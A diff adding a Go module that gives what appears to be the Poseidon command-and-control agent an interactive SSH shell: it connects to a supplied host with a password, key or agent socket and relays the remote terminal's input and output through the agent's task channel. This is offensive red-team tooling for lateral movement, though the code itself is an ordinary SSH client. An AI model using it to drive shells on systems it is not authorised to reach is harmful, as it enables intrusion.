@@ -0,0 +1,267 @@
+package sshshell
+
+import (
+	"bufio"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log"
+	"sync"
+
+	"github.com/xorrior/poseidon/pkg/commands/sshauth"
+	"github.com/xorrior/poseidon/pkg/utils/structs"
+	"golang.org/x/crypto/ssh"
+)
+
+// shellSession holds the live SSH connection, session and PTY pipes backing
+// a single interactive sshshell session.
+type shellSession struct {
+	connection *ssh.Client
+	session    *ssh.Session
+	stdin      io.WriteCloser
+	stdout     io.Reader
+}
+
+var (
+	sessions   = make(map[string]*shellSession)
+	sessionsMu sync.Mutex
+)
+
+// SSHShellParams drives the lifecycle of an interactive sshshell task.
+// Action is one of "start", "input", "resize" or "close" and SessionID ties
+// successive task messages to the same PTY.
+type SSHShellParams struct {
+	Action      string `json:"action"`
+	SessionID   string `json:"session_id"`
+	Host        string `json:"host"`
+	Port        int    `json:"port"`
+	Username    string `json:"username"`
+	Password    string `json:"password"`
+	PrivateKey  string `json:"private_key"`
+	Passphrase  string `json:"passphrase"`
+	AgentSocket string `json:"agent_socket"`
+	Cols        int    `json:"cols"`
+	Rows        int    `json:"rows"`
+	Input       string `json:"input"`
+
+	KnownHosts      string `json:"known_hosts"`
+	HostFingerprint string `json:"host_fingerprint"`
+}
+
+func sendResult(threadChannel chan<- structs.ThreadMsg, task structs.Task, result string, isError bool) {
+	tMsg := structs.ThreadMsg{}
+	tMsg.TaskItem = task
+	tMsg.TaskResult = []byte(result)
+	tMsg.Error = isError
+	threadChannel <- tMsg
+}
+
+// streamOutput relays PTY output back through threadChannel as it arrives,
+// one ThreadMsg per chunk, until the session's stdout is closed. Once the
+// read loop ends, whether because the remote shell exited on its own or the
+// connection dropped, it tears down the session so sessionID can be reused
+// and the underlying connection/session aren't leaked.
+func streamOutput(sessionID string, sess *shellSession, task structs.Task, threadChannel chan<- structs.ThreadMsg) {
+	reader := bufio.NewReader(sess.stdout)
+	buf := make([]byte, 4096)
+	for {
+		n, err := reader.Read(buf)
+		if n > 0 {
+			sendResult(threadChannel, task, base64.StdEncoding.EncodeToString(buf[:n]), false)
+		}
+		if err != nil {
+			sessionsMu.Lock()
+			if sessions[sessionID] == sess {
+				delete(sessions, sessionID)
+			}
+			sessionsMu.Unlock()
+			sess.session.Close()
+			sess.connection.Close()
+			return
+		}
+	}
+}
+
+func startSession(params SSHShellParams, task structs.Task, threadChannel chan<- structs.ThreadMsg) {
+	if params.SessionID == "" {
+		sendResult(threadChannel, task, "Error: session_id is required to start an sshshell session.", true)
+		return
+	}
+
+	sessionsMu.Lock()
+	_, exists := sessions[params.SessionID]
+	sessionsMu.Unlock()
+	if exists {
+		sendResult(threadChannel, task, fmt.Sprintf("Error: Session %s is already active. Close it before starting a new one.", params.SessionID), true)
+		return
+	}
+
+	if params.Port == 0 {
+		params.Port = 22
+	}
+	if params.Cols == 0 {
+		params.Cols = 80
+	}
+	if params.Rows == 0 {
+		params.Rows = 24
+	}
+
+	cred := sshauth.Credential{
+		Username:    params.Username,
+		Password:    params.Password,
+		PrivateKey:  params.PrivateKey,
+		Passphrase:  params.Passphrase,
+		AgentSocket: params.AgentSocket,
+	}
+
+	connection, _, err := sshauth.DialClient(params.Host, params.Port, cred, params.KnownHosts, params.HostFingerprint)
+	if err != nil {
+		sendResult(threadChannel, task, fmt.Sprintf("Error: Failed to connect to %s: %s", params.Host, err.Error()), true)
+		return
+	}
+
+	session, err := connection.NewSession()
+	if err != nil {
+		connection.Close()
+		sendResult(threadChannel, task, fmt.Sprintf("Error: Failed to open session: %s", err.Error()), true)
+		return
+	}
+
+	modes := ssh.TerminalModes{
+		ssh.ECHO:          1,
+		ssh.TTY_OP_ISPEED: 14400,
+		ssh.TTY_OP_OSPEED: 14400,
+	}
+
+	if err := session.RequestPty("xterm", params.Rows, params.Cols, modes); err != nil {
+		session.Close()
+		connection.Close()
+		sendResult(threadChannel, task, fmt.Sprintf("Error: Failed to request PTY: %s", err.Error()), true)
+		return
+	}
+
+	stdin, err := session.StdinPipe()
+	if err != nil {
+		session.Close()
+		connection.Close()
+		sendResult(threadChannel, task, fmt.Sprintf("Error: Failed to get stdin pipe: %s", err.Error()), true)
+		return
+	}
+
+	stdout, err := session.StdoutPipe()
+	if err != nil {
+		session.Close()
+		connection.Close()
+		sendResult(threadChannel, task, fmt.Sprintf("Error: Failed to get stdout pipe: %s", err.Error()), true)
+		return
+	}
+
+	if err := session.Shell(); err != nil {
+		session.Close()
+		connection.Close()
+		sendResult(threadChannel, task, fmt.Sprintf("Error: Failed to start shell: %s", err.Error()), true)
+		return
+	}
+
+	sess := &shellSession{
+		connection: connection,
+		session:    session,
+		stdin:      stdin,
+		stdout:     stdout,
+	}
+
+	sessionsMu.Lock()
+	if _, exists := sessions[params.SessionID]; exists {
+		sessionsMu.Unlock()
+		session.Close()
+		connection.Close()
+		sendResult(threadChannel, task, fmt.Sprintf("Error: Session %s is already active. Close it before starting a new one.", params.SessionID), true)
+		return
+	}
+	sessions[params.SessionID] = sess
+	sessionsMu.Unlock()
+
+	go streamOutput(params.SessionID, sess, task, threadChannel)
+
+	sendResult(threadChannel, task, fmt.Sprintf("Interactive session %s opened on %s.", params.SessionID, params.Host), false)
+}
+
+func inputSession(params SSHShellParams, task structs.Task, threadChannel chan<- structs.ThreadMsg) {
+	sessionsMu.Lock()
+	sess, ok := sessions[params.SessionID]
+	sessionsMu.Unlock()
+	if !ok {
+		sendResult(threadChannel, task, fmt.Sprintf("Error: No active session with id %s.", params.SessionID), true)
+		return
+	}
+
+	data, err := base64.StdEncoding.DecodeString(params.Input)
+	if err != nil {
+		sendResult(threadChannel, task, fmt.Sprintf("Error: input is not valid base64: %s", err.Error()), true)
+		return
+	}
+
+	if _, err := sess.stdin.Write(data); err != nil {
+		sendResult(threadChannel, task, fmt.Sprintf("Error: Failed to write to session %s: %s", params.SessionID, err.Error()), true)
+		return
+	}
+
+	sendResult(threadChannel, task, "", false)
+}
+
+func resizeSession(params SSHShellParams, task structs.Task, threadChannel chan<- structs.ThreadMsg) {
+	sessionsMu.Lock()
+	sess, ok := sessions[params.SessionID]
+	sessionsMu.Unlock()
+	if !ok {
+		sendResult(threadChannel, task, fmt.Sprintf("Error: No active session with id %s.", params.SessionID), true)
+		return
+	}
+
+	if err := sess.session.WindowChange(params.Rows, params.Cols); err != nil {
+		sendResult(threadChannel, task, fmt.Sprintf("Error: Failed to resize session %s: %s", params.SessionID, err.Error()), true)
+		return
+	}
+
+	sendResult(threadChannel, task, "", false)
+}
+
+func closeSession(params SSHShellParams, task structs.Task, threadChannel chan<- structs.ThreadMsg) {
+	sessionsMu.Lock()
+	sess, ok := sessions[params.SessionID]
+	delete(sessions, params.SessionID)
+	sessionsMu.Unlock()
+	if !ok {
+		sendResult(threadChannel, task, fmt.Sprintf("Error: No active session with id %s.", params.SessionID), true)
+		return
+	}
+
+	sess.session.Close()
+	sess.connection.Close()
+	sendResult(threadChannel, task, fmt.Sprintf("Session %s closed.", params.SessionID), false)
+}
+
+//Run - interface method that drives an interactive SSH PTY session keyed by session_id
+func Run(task structs.Task, threadChannel chan<- structs.ThreadMsg) {
+	params := SSHShellParams{}
+
+	if err := json.Unmarshal([]byte(task.Params), &params); err != nil {
+		log.Println("Error unmarshalling params:", err.Error())
+		sendResult(threadChannel, task, err.Error(), true)
+		return
+	}
+
+	switch params.Action {
+	case "start":
+		startSession(params, task, threadChannel)
+	case "input":
+		inputSession(params, task, threadChannel)
+	case "resize":
+		resizeSession(params, task, threadChannel)
+	case "close":
+		closeSession(params, task, threadChannel)
+	default:
+		sendResult(threadChannel, task, fmt.Sprintf("Error: Unknown action %q. Expected start, input, resize or close.", params.Action), true)
+	}
+}